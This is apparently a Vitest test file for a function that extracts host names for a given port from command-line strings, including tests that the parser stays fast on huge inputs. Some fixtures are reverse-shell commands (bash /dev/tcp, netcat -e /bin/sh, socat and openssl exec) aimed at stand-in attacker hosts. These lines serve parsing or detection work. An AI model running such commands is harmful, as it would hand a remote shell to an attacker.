import { describe, expect, it } from 'vitest';
import { hostNamesForPort } from '../../../src/model/link/argument-names.js';

describe('hostNamesForPort', () => {
  it.each<[string, number, readonly string[]]>([
    ['-s http://elasticsearch:9200/_cat/indices', 9200, ['elasticsearch']],
    ['-s http://feeds.midezu.example/feed.json', 80, ['feeds.midezu.example']],
    ['https://api.example.com', 443, ['api.example.com']],
    ['https://api.example.com', 80, []],
    ['https://api.example.com:8443/x', 443, []],
    ['https://user:pass@api.example.com/x', 443, ['api.example.com']],
    ['postgres://u:p@db.tenant:5433/app', 5433, ['db.tenant']],
    ['redis://cache', 6379, ['cache']],
    ['-c bash -i >& /dev/tcp/fugi.veda-lumora.example/8531 0>&1', 8531, ['fugi.veda-lumora.example']],
    ['-c bash -i >& /dev/tcp/fugi.veda-lumora.example/8531 0>&1', 853, []],
    ['-c cat < /dev/udp/log.example/514', 514, ['log.example']],
    ['fugi.veda-lumora.example 9001', 9001, ['fugi.veda-lumora.example']],
    ['-e /bin/sh attacker.example 4444', 4444, ['attacker.example']],
    ['tcp:relay.example:9002 exec:/bin/sh', 9002, ['relay.example']],
    ['TCP:relay.example:9002 EXEC:/bin/sh', 9002, ['relay.example']],
    ['openssl:relay.example:443,verify=0 exec:sh', 443, ['relay.example']],
    ['--bootstrap-server kafka-0.kafka:9092,kafka-1.kafka:9092', 9092, ['kafka-0.kafka', 'kafka-1.kafka']],
    ['http://a:80 http://b:80', 80, ['a', 'b']],
    ['http://a:80 http://a:80', 80, ['a']],
    ['203.0.113.60 8531', 8531, []],
    ['http://10.0.0.1:9200/', 9200, []],
    ['/dev/tcp/203.0.113.60/8531', 8531, []],
    ['http://[::1]:80/', 80, []],
    ['-p 80', 80, []],
    ['', 80, []],
    ['http://elasticsearch:9200', 0, []],
    ['http://elasticsearch:99999', 99_999, ['elasticsearch']],
  ])('reads of "%s" for port %i: %j', (commandLine, port, names) => {
    expect(hostNamesForPort(commandLine, port)).toEqual(names);
  });

  it.each<[string, (size: number) => string]>([
    ['one label without end', (size) => 'a'.repeat(size)],
    ['dots', (size) => 'a.'.repeat(size)],
    ['dashes', (size) => 'a-'.repeat(size)],
    ['digits', (size) => '1'.repeat(size)],
    ['colons', (size) => 'a:1:'.repeat(size)],
    ['commas', (size) => 'a,1,'.repeat(size)],
    ['spaces', (size) => `a${' '.repeat(size)}x`],
    ['URL beginnings', (size) => 'http://'.repeat(size)],
    ['URL users', (size) => `http://${'u:'.repeat(size)}`],
    ['names and numbers', (size) => 'a 1 '.repeat(size)],
    ['labels of the longest kind', (size) => `${'a'.repeat(63)}.`.repeat(size)],
    ['labels that nearly end well', (size) => `${'a-'.repeat(31)}.`.repeat(size)],
    // Steps that grow with the square of their number would not end before the test is given up.
  ])('ends with %s, however many', (_what, text) => {
    expect(hostNamesForPort(text(1_000_000), 1).length).toBeLessThan(2);
  });
});
